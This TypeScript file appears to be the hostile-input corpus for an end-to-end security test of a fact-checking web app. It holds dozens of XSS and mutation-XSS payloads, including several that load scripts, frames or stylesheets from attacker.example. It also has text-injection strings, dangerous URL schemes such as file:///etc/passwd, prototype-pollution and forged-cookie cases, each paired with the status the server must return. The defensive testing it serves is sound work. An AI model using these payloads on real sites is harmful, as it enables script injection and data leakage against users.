// The hostile-input corpus, as data: what an attacker (or a broken client) sends, and what the
// server must answer. e2e/hostile-input.spec.ts sends every case to the running production server;
// the payloads that are stored are then opened on the desk, the public page and the HTML export,
// where calling window.__pwned, opening a dialog or fetching from attacker.example is a failure.

/** The host every payload tries to reach; no request may ever go there. */
export const ATTACKER_HOST = "attacker.example";

// ---------------------------------------------------------------------------------------------
// Article markup. Each is sent alone (status checked), and those accepted are batched into a few
// articles that are opened in Chromium. `last` payloads swallow what follows them (an unclosed
// comment), so a batch puts them at its end.

export interface MarkupCase {
  name: string;
  format: "html" | "markdown";
  body: string;
  status: number;
  /** For 400: the field the message is on, and words it says. */
  field?: [string, RegExp];
  last?: boolean;
}

const html = (name: string, body: string, more: Partial<MarkupCase> = {}): MarkupCase => ({
  name,
  format: "html",
  body,
  status: 201,
  ...more,
});
const markdown = (name: string, body: string): MarkupCase => ({ name, format: "markdown", body, status: 201 });
const NUL_IN_BODY: Partial<MarkupCase> = { status: 400, field: ["body", /NUL character/] };

export const MARKUP_CASES: MarkupCase[] = [
  html("script element", `<script>__pwned("script")</script>`),
  html("script, upper case", `<SCRIPT>__pwned("script-upper")</SCRIPT>`),
  html("external script", `<script src="https://attacker.example/x.js"></script>`),
  html("script split by a nested tag", `<scr<script>ipt>__pwned("nested-tag")</script>`),
  html("img onerror", `<img src=x onerror=__pwned("img-onerror")>`),
  html("img ONERROR, mixed quoting", `<img src="x" ONERROR='__pwned("img-upper")'>`),
  html("img srcset to the attacker", `<img srcset="https://attacker.example/a.png 1x">`),
  html("tracking pixel", `<img src="https://attacker.example/pixel.png">`),
  html("svg onload", `<svg onload=__pwned("svg-onload")>`),
  html("svg script", `<svg><script>__pwned("svg-script")</script></svg>`),
  html("svg xlink:href", `<svg><a xlink:href="javascript:__pwned('svg-xlink')"><text>x</text></a></svg>`),
  html("svg animate onbegin", `<svg><animate onbegin=__pwned("animate") attributeName=x dur=1s></svg>`),
  html("svg set href", `<svg><a><set attributeName="href" to="javascript:__pwned('set')"/><text>y</text></a></svg>`),
  html("svg style breakout", `<svg><style><img src=x onerror=__pwned("svg-style")></style></svg>`),
  html("math mglyph mXSS", `<math><mtext><table><mglyph><style><img src=x onerror=__pwned("mglyph")>`),
  html("math href", `<math><a xlink:href="javascript:__pwned('math-href')">m</a></math>`),
  html("javascript: link", `<a href="javascript:__pwned('a-js')">a</a>`),
  html("JaVaScRiPt: mixed case", `<a href="JaVaScRiPt:__pwned('a-mixed')">a</a>`),
  html("entity-encoded javascript:", `<a href="&#106;avascript:__pwned('a-entity')">a</a>`),
  html("hex entities, no semicolons", `<a href="&#x6A&#x61vascript&#x3A__pwned('a-hex')">a</a>`),
  html("tab inside the scheme", `<a href="java&#09;script:__pwned('a-tab')">a</a>`),
  html("leading space and newline", `<a href=" \njavascript:__pwned('a-space')">a</a>`),
  html("control character in the scheme", `<a href="java\u0001script:__pwned('a-ctl')">a</a>`),
  html("data: link", `<a href="data:text/html,<script>__pwned('a-data')</script>">a</a>`),
  html("vbscript: link", `<a href="vbscript:msgbox(1)">a</a>`),
  html("link with onclick", `<a href="https://example.org/" onclick="__pwned('onclick')">ok</a>`),
  html("paragraph onmouseover", `<p onmouseover="__pwned('mouseover')">hover</p>`),
  html("iframe javascript:", `<iframe src="javascript:__pwned('iframe-js')"></iframe>`),
  html("iframe to the attacker", `<iframe src="https://attacker.example/frame"></iframe>`),
  html("iframe srcdoc", `<iframe srcdoc="<script>parent.__pwned('srcdoc')</script>"></iframe>`),
  html("object data", `<object data="javascript:__pwned('object')"></object>`),
  html("embed src", `<embed src="javascript:__pwned('embed')">`),
  html("form action", `<form action="javascript:__pwned('form')"><button>go</button></form>`),
  html("button formaction", `<button formaction="javascript:__pwned('formaction')">b</button>`),
  html("isindex", `<isindex action="javascript:__pwned('isindex')" type=image>`),
  html("input autofocus onfocus", `<input autofocus onfocus=__pwned("autofocus")>`),
  html("details ontoggle", `<details open ontoggle=__pwned("ontoggle")><summary>s</summary></details>`),
  html("body onload", `<body onload=__pwned("body-onload")>`),
  html("video source onerror", `<video><source onerror="__pwned('video')"></video>`),
  html("audio onerror", `<audio src=x onerror=__pwned("audio")>`),
  html("marquee onstart", `<marquee onstart=__pwned("marquee")>m</marquee>`),
  html("animation event", `<style>@keyframes k{}</style><b style="animation:k" onanimationstart=__pwned("anim")>b</b>`),
  html("meta refresh javascript:", `<meta http-equiv="refresh" content="0;url=javascript:__pwned('meta')">`),
  html("meta refresh to the attacker", `<meta http-equiv="refresh" content="0;url=https://attacker.example/meta">`),
  html("base href", `<base href="https://attacker.example/"><a href="rel">relative</a>`),
  html("stylesheet link", `<link rel=stylesheet href="https://attacker.example/x.css">`),
  html("style @import", `<style>@import "https://attacker.example/i.css";</style>`),
  html("style url()", `<div style="background:url(https://attacker.example/bg.png)">bg</div>`),
  html("style expression()", `<div style="width:expression(__pwned('expr'))">e</div>`),
  html("table background", `<table background="javascript:__pwned('table')"><tr><td>t</td></tr></table>`),
  html("commented-out payload", `<!--<img src=x onerror=__pwned("comment")>-->`),
  html("comment closed early", `<!-- --!><img src=x onerror=__pwned("comment-bang")> -->`),
  html("CDATA", `<![CDATA[<script>__pwned("cdata")</script>]]>`),
  html("template", `<template><script>__pwned("template")</script></template>`),
  html("noscript attribute mXSS", `<noscript><p title="</noscript><img src=x onerror=__pwned('noscript')>">`),
  html("select template mXSS", `<select><template><style><img src=x onerror=__pwned("select")>`),
  html("title breakout", `<title></title><img src=x onerror=__pwned("title-tag")>`),
  html("textarea breakout", `<textarea></textarea><script>__pwned("textarea")</script>`),
  html("attribute breakout", `"><img src=x onerror=__pwned("attr-break")>`),
  html("line separator before scheme", `<a href="\u2028javascript:__pwned('ls')">ls</a>`),
  html("unclosed comment", `<!-- never closed <script>__pwned("unclosed")</script>`, { last: true }),
  html("NUL inside a tag name", `<scr\u0000ipt>__pwned("nul-tag")</script>`, NUL_IN_BODY),
  html("NUL inside an attribute name", `<img src=x on\u0000error=__pwned("nul-attr")>`, NUL_IN_BODY),
  html("lone surrogate in the body", `<p>half \ud83d of an emoji</p>`, {
    status: 400,
    field: ["body", /broken character/],
  }),
  markdown("markdown javascript: link", `[click](javascript:__pwned('md-link'))`),
  markdown("markdown raw html", `Text <img src=x onerror=__pwned("md-raw")> more`),
  markdown("markdown image to the attacker", `![pixel](https://attacker.example/md.png)`),
  markdown("markdown autolink javascript:", `<javascript:__pwned('md-autolink')>`),
  markdown("markdown reference link", `[ref][r]\n\n[r]: javascript:__pwned('md-ref')`),
];

// ---------------------------------------------------------------------------------------------
// Text that is stored as it is and shown on every page: each must appear as the very characters
// typed, never as markup (the JSON-LD in the public page's head included).

export const TEXT_PAYLOADS = [
  `<script>__pwned("t-script")</script>`,
  `<img src=x onerror=__pwned("t-img")>`,
  `"><svg onload=__pwned("t-svg")>`,
  `</script><script>__pwned("t-close")</script>`,
  `javascript:__pwned("t-js")`,
  `{{constructor.constructor('__pwned("t-template")')()}}`,
  `<!--<script>__pwned("t-comment")</script>`,
  `' onmouseover='__pwned("t-quote")' x='`,
];

// ---------------------------------------------------------------------------------------------
// Requests. `endpoint` names the route; the spec fills in the article and claim. Bodies are JSON
// values; `raw` sends a string as it is (malformed JSON).

export type Endpoint =
  | "createArticle"
  | "createRevision"
  | "createClaim"
  | "updateClaim"
  | "addSource"
  | "addComment"
  | "requestChanges"
  | "reopen"
  | "createUser";

export type As = "checker" | "editor" | "admin" | "anonymous";

export interface RequestCase {
  name: string;
  endpoint: Endpoint;
  body?: unknown;
  raw?: string;
  /** Headers to add or override. */
  headers?: Record<string, string>;
  as?: As;
  status: number;
  field?: [string, RegExp];
  /** For success: a value the response must hold at a dotted path. */
  stored?: [string, unknown];
}

/** The scratch article the selector cases point into (plain text; its contentText is this). */
export const SCRATCH_TEXT = "Smile 😀 here. Unique phrase alpha. Twice said. Twice said.";
const EMOJI = SCRATCH_TEXT.indexOf("😀");
const UNIQUE = SCRATCH_TEXT.indexOf("Unique phrase alpha");

const article = { title: "Hostile fields", format: "text", body: "Plain body." };
const quote = (exact: string, more = {}) => ({ type: "TextQuoteSelector", exact, ...more });
const position = (start: unknown, end: unknown) => ({ type: "TextPositionSelector", start, end });
const claim = (...selector: unknown[]) => ({ target: { selector } });
const source = (url: string, more = {}) => ({ url, title: "A source", stance: "CONTEXT", ...more });
const user = (more = {}) => ({
  email: `u${Math.random().toString(36).slice(2)}@example.org`,
  name: "N",
  role: "CHECKER",
  password: "long enough password",
  ...more,
});

const NUL = "a\u0000b";
const LONE = "a\udc00b";
const nul = (field: string): [string, RegExp] => [field, /NUL character/];
const lone = (field: string): [string, RegExp] => [field, /broken character/];

/** NUL and a lone surrogate in every text field of every body: 400 on that field, never a 500. */
const unstorable: [string, Endpoint, (v: string) => unknown, string, As?][] = [
  ["article title", "createArticle", (v) => ({ ...article, title: v }), "title"],
  ["article outlet", "createArticle", (v) => ({ ...article, outlet: v }), "outlet"],
  ["article author", "createArticle", (v) => ({ ...article, author: v }), "author"],
  ["article url", "createArticle", (v) => ({ ...article, url: `https://news.example/${v}` }), "url"],
  ["article body", "createArticle", (v) => ({ ...article, body: v }), "body"],
  ["article published date", "createArticle", (v) => ({ ...article, publishedAt: `2017-03-02${v}` }), "publishedAt"],
  ["revision body", "createRevision", (v) => ({ format: "text", body: v }), "body"],
  ["revision note", "createRevision", (v) => ({ format: "text", body: SCRATCH_TEXT, note: v }), "note"],
  ["claim quote", "createClaim", (v) => claim(quote(v)), "target.selector.0.exact"],
  ["claim prefix", "createClaim", (v) => claim(quote("Unique", { prefix: v })), "target.selector.0.prefix"],
  ["claim suffix", "createClaim", (v) => claim(quote("Unique", { suffix: v })), "target.selector.0.suffix"],
  ["claimant", "createClaim", (v) => ({ ...claim(quote("Unique")), claimant: v }), "claimant"],
  ["rationale", "createClaim", (v) => ({ ...claim(quote("Unique")), rationale: v }), "rationale"],
  ["edited claimant", "updateClaim", (v) => ({ version: 1, claimant: v }), "claimant"],
  ["edited rationale", "updateClaim", (v) => ({ version: 1, rationale: v }), "rationale"],
  ["source url", "addSource", (v) => source(`https://example.org/${v}`), "url"],
  ["source title", "addSource", (v) => source("https://example.org/t", { title: v }), "title"],
  ["source publisher", "addSource", (v) => source("https://example.org/p", { publisher: v }), "publisher"],
  ["source excerpt", "addSource", (v) => source("https://example.org/e", { excerpt: v }), "excerpt"],
  ["comment", "addComment", (v) => ({ body: v }), "body"],
  ["request-changes note", "requestChanges", (v) => ({ comment: v }), "comment", "editor"],
  ["reopen reason", "reopen", (v) => ({ reason: v }), "reason", "editor"],
  ["user name", "createUser", (v) => user({ name: v }), "name", "admin"],
  ["user email", "createUser", (v) => user({ email: `x${v}@example.org` }), "email", "admin"],
];

const fieldCases: RequestCase[] = unstorable.flatMap(([label, endpoint, body, field, as]) => [
  { name: `NUL in the ${label}`, endpoint, body: body(NUL), as, status: 400, field: nul(field) },
  { name: `lone surrogate in the ${label}`, endpoint, body: body(LONE), as, status: 400, field: lone(field) },
]);

const cleanedCases: RequestCase[] = [
  {
    name: "control characters are removed from a title",
    endpoint: "createArticle",
    body: { ...article, title: "Bell\u0007 and\u001b escape\u007f" },
    status: 201,
    stored: ["article.title", "Bell and escape"],
  },
  {
    name: "control characters are removed from a claimant, tab kept",
    endpoint: "createClaim",
    body: { ...claim(quote("Unique phrase alpha")), claimant: "Ann\u0008\tLee\u0085" },
    status: 201,
    stored: ["claim.claimant", "Ann\tLee"],
  },
  {
    name: "CRLF in a comment is stored as a newline",
    endpoint: "addComment",
    body: { body: "one\r\ntwo\u000bthree" },
    status: 201,
    stored: ["comment.body", "one\ntwothree"],
  },
];

const urlCases: RequestCase[] = [
  ["backslashes as a browser reads them", "http:\\\\evil.example\\x", 201, "http://evil.example/x"],
  ["scheme and host in capitals", "HTTPS://EXAMPLE.ORG/Case", 201, "https://example.org/Case"],
  ["one slash after the scheme", "https:/one-slash.example/a", 201, "https://one-slash.example/a"],
  [
    "markup in the path is percent-encoded",
    `https://example.org/"><script>x</script>`,
    201,
    "https://example.org/%22%3E%3Cscript%3Ex%3C/script%3E",
  ],
  ["javascript:", "javascript:__pwned('src-js')", 400],
  ["JavaScript: mixed case", "JavaScript:alert(1)", 400],
  ["javascript: with a tab", "java\tscript:alert(1)", 400],
  ["data:", "data:text/html,<script>__pwned('src-data')</script>", 400],
  ["vbscript:", "vbscript:msgbox(1)", 400],
  ["file:", "file:///etc/passwd", 400],
  ["ftp:", "ftp://example.org/x", 400],
  ["protocol-relative", "//attacker.example/x", 400],
  ["relative path", "/articles/1", 400],
  ["credentials that disguise the host", "https://bank.example@attacker.example/", 400],
  ["a tab in the host", "https://exa\tmple.org/", 400],
].map(([what, url, status, stored]) => ({
  name: `source URL: ${what}`,
  endpoint: "addSource" as const,
  body: source(url as string),
  status: status as number,
  ...(status === 400
    ? { field: ["url", /http:\/\/ or https:\/\//] as [string, RegExp] }
    : { stored: ["source.url", stored] as [string, unknown] }),
}));

const moreUrlCases: RequestCase[] = [
  {
    name: "source URL: over 2048 characters",
    endpoint: "addSource",
    body: source(`https://example.org/${"a".repeat(2100)}`),
    status: 400,
    field: ["url", /at most 2048/],
  },
  {
    name: "article URL with backslashes is stored as followed",
    endpoint: "createArticle",
    body: { ...article, url: "http:\\\\news.example\\story" },
    status: 201,
    stored: ["article.url", "http://news.example/story"],
  },
  {
    name: "article URL javascript:",
    endpoint: "createArticle",
    body: { ...article, url: "javascript:__pwned('article-url')" },
    status: 400,
    field: ["url", /http:\/\//],
  },
];

const at = (field: string, words: RegExp): [string, RegExp] => [`target.selector.0.${field}`, words];
const selectorCases: RequestCase[] = [
  {
    name: "selector: a whole emoji",
    endpoint: "createClaim",
    body: claim(position(EMOJI, EMOJI + 2)),
    status: 201,
    stored: ["claim.target.selector.0.exact", "😀"],
  },
  {
    name: "selector: start inside an emoji",
    endpoint: "createClaim",
    body: claim(position(EMOJI + 1, EMOJI + 7)),
    status: 422,
    field: at("start", /inside a character/),
  },
  {
    name: "selector: end inside an emoji",
    endpoint: "createClaim",
    body: claim(position(0, EMOJI + 1)),
    status: 422,
    field: at("end", /inside a character/),
  },
  {
    name: "selector: negative start",
    endpoint: "createClaim",
    body: claim(position(-5, 3)),
    status: 400,
    field: at("start", /0 or more/),
  },
  {
    name: "selector: end past the text",
    endpoint: "createClaim",
    body: claim(position(0, SCRATCH_TEXT.length + 1)),
    status: 422,
  },
  { name: "selector: huge end", endpoint: "createClaim", body: claim(position(0, 1e15)), status: 422 },
  {
    name: "selector: end beyond safe integers",
    endpoint: "createClaim",
    body: claim(position(0, 2 ** 60)),
    status: 400,
    field: at("end", /./),
  },
  {
    name: "selector: fractional start",
    endpoint: "createClaim",
    body: claim(position(1.5, 4)),
    status: 400,
    field: at("start", /./),
  },
  {
    name: "selector: start as a string",
    endpoint: "createClaim",
    body: claim(position("0", 4)),
    status: 400,
    field: at("start", /./),
  },
  {
    name: "selector: empty range",
    endpoint: "createClaim",
    body: claim(position(4, 4)),
    status: 400,
    field: at("end", /more than start/),
  },
  { name: "selector: only whitespace", endpoint: "createClaim", body: claim(position(5, 6)), status: 422 },
  {
    name: "selector: position and quote disagree",
    endpoint: "createClaim",
    body: claim(quote("Smile"), position(UNIQUE, UNIQUE + 6)),
    status: 422,
  },
  {
    name: "selector: quote not in the text",
    endpoint: "createClaim",
    body: claim(quote("not there at all")),
    status: 422,
  },
  { name: "selector: ambiguous quote", endpoint: "createClaim", body: claim(quote("Twice said")), status: 422 },
  {
    name: "selector: unknown type",
    endpoint: "createClaim",
    body: claim({ type: "CssSelector", value: "p" }),
    status: 400,
    field: at("type", /TextQuoteSelector/),
  },
  {
    name: "selector: three selectors",
    endpoint: "createClaim",
    body: claim(quote("Smile"), quote("here"), position(0, 5)),
    status: 400,
    field: ["target.selector", /at most/],
  },
  {
    name: "selector: no target",
    endpoint: "createClaim",
    body: { claimant: "x" },
    status: 400,
    field: ["target", /./],
  },
  {
    name: "selector: a 20,000-character quote",
    endpoint: "createClaim",
    body: claim(quote("q".repeat(20_000))),
    status: 400,
    field: at("exact", /at most/),
  },
];

const commentCases: RequestCase[] = [
  {
    name: "comment: markup is stored as text",
    endpoint: "addComment",
    body: { body: TEXT_PAYLOADS[0] },
    status: 201,
    stored: ["comment.body", TEXT_PAYLOADS[0]],
  },
  {
    name: "comment: only whitespace",
    endpoint: "addComment",
    body: { body: " \n\t " },
    status: 400,
    field: ["body", /required/],
  },
  { name: "comment: over 10 kB", endpoint: "addComment", body: { body: "x".repeat(11 * 1024) }, status: 413 },
  { name: "comment: a number", endpoint: "addComment", body: { body: 42 }, status: 400, field: ["body", /required/] },
  {
    name: "comment: an object",
    endpoint: "addComment",
    body: { body: { $gt: "" } },
    status: 400,
    field: ["body", /required/],
  },
];

const bodyCases: RequestCase[] = [
  {
    name: "body: malformed JSON",
    endpoint: "createArticle",
    raw: `{"title": "x", "body":`,
    status: 400,
    field: ["_", /JSON/],
  },
  {
    name: "body: trailing garbage",
    endpoint: "createArticle",
    raw: `{"title":"x","body":"y"} x`,
    status: 400,
    field: ["_", /JSON/],
  },
  { name: "body: an array", endpoint: "createArticle", body: [article], status: 400 },
  { name: "body: null", endpoint: "createArticle", raw: "null", status: 400 },
  { name: "body: a string", endpoint: "createArticle", body: "title", status: 400 },
  { name: "body: empty", endpoint: "createArticle", raw: "", status: 400 },
  {
    name: "body: title as a number",
    endpoint: "createArticle",
    body: { ...article, title: 7 },
    status: 400,
    field: ["title", /must be text/],
  },
  {
    name: "body: title as an object",
    endpoint: "createArticle",
    body: { ...article, title: { toString: "x" } },
    status: 400,
    field: ["title", /must be text/],
  },
  {
    name: "body: body as an array",
    endpoint: "createArticle",
    body: { ...article, body: ["<p>a</p>"] },
    status: 400,
    field: ["body", /./],
  },
  {
    name: "body: unknown format",
    endpoint: "createArticle",
    body: { ...article, format: "pdf" },
    status: 400,
    field: ["format", /Choose/],
  },
  {
    name: "body: a 600-character title",
    endpoint: "createArticle",
    body: { ...article, title: "t".repeat(600) },
    status: 400,
    field: ["title", /at most 500/],
  },
  {
    name: "body: a 3 MB article",
    endpoint: "createArticle",
    body: { ...article, body: "word ".repeat(600_000) },
    status: 413,
  },
  {
    name: "body: nested 100,000 levels deep",
    endpoint: "createArticle",
    raw: "[".repeat(100_000) + "]".repeat(100_000),
    status: 422,
  },
  {
    name: "body: __proto__ keys do nothing",
    endpoint: "createArticle",
    raw: `{"__proto__":{"role":"ADMIN"},"title":"Proto","body":"x"}`,
    status: 201,
    stored: ["article.title", "Proto"],
  },
  {
    name: "body: a verdict off the scale",
    endpoint: "createClaim",
    body: { ...claim(quote("Unique")), verdict: "pants_on_fire" },
    status: 400,
    field: ["verdict", /verdict from the scale/],
  },
  {
    name: "body: a version as a string",
    endpoint: "updateClaim",
    body: { version: "1", rationale: "x" },
    status: 400,
    field: ["version", /version/],
  },
  {
    name: "body: a stance off the list",
    endpoint: "addSource",
    body: source("https://example.org/stance", { stance: "MAYBE" }),
    status: 400,
    field: ["stance", /supports, refutes/],
  },
  {
    name: "body: a role that does not exist",
    endpoint: "createUser",
    as: "admin",
    body: user({ role: "ROOT" }),
    status: 400,
    field: ["role", /Choose a role/],
  },
];

const headerCases: RequestCase[] = [
  {
    name: "header: a binary body (application/octet-stream)",
    endpoint: "addComment",
    body: { body: "x" },
    headers: { "content-type": "application/octet-stream" },
    status: 415,
  },
  {
    name: "header: text/plain",
    endpoint: "addComment",
    body: { body: "x" },
    headers: { "content-type": "text/plain" },
    status: 415,
  },
  {
    name: "header: text/plain naming JSON in a parameter",
    endpoint: "addComment",
    body: { body: "x" },
    headers: { "content-type": "text/plain; x=application/json" },
    status: 415,
  },
  {
    name: "header: form encoding",
    endpoint: "addComment",
    body: { body: "x" },
    headers: { "content-type": "application/x-www-form-urlencoded" },
    status: 415,
  },
  {
    name: "header: JSON in Latin-1",
    endpoint: "addComment",
    body: { body: "x" },
    headers: { "content-type": "application/json; charset=iso-8859-1" },
    status: 415,
  },
  {
    name: "header: JSON with charset UTF-8",
    endpoint: "addComment",
    body: { body: "utf" },
    headers: { "content-type": "Application/JSON; charset=UTF-8" },
    status: 201,
  },
  {
    name: "header: another site's Origin",
    endpoint: "addComment",
    body: { body: "x" },
    headers: { origin: "https://attacker.example" },
    status: 403,
  },
  {
    name: "header: Origin null",
    endpoint: "addComment",
    body: { body: "x" },
    headers: { origin: "null" },
    status: 403,
  },
  {
    name: "header: same host, another port",
    endpoint: "addComment",
    body: { body: "x" },
    headers: { origin: "http://127.0.0.1:3999" },
    status: 403,
  },
  { name: "header: no session", endpoint: "addComment", as: "anonymous", body: { body: "x" }, status: 401 },
  {
    name: "header: a forged session cookie",
    endpoint: "addComment",
    as: "anonymous",
    body: { body: "x" },
    headers: { cookie: "next-auth.session-token=forged.value.here" },
    status: 401,
  },
  {
    name: "header: a made-up bearer token",
    endpoint: "addComment",
    as: "anonymous",
    body: { body: "x" },
    headers: { authorization: "Bearer not-a-token" },
    status: 401,
  },
];

export const REQUEST_CASES: RequestCase[] = [
  ...fieldCases,
  ...cleanedCases,
  ...urlCases,
  ...moreUrlCases,
  ...selectorCases,
  ...commentCases,
  ...bodyCases,
  ...headerCases,
];
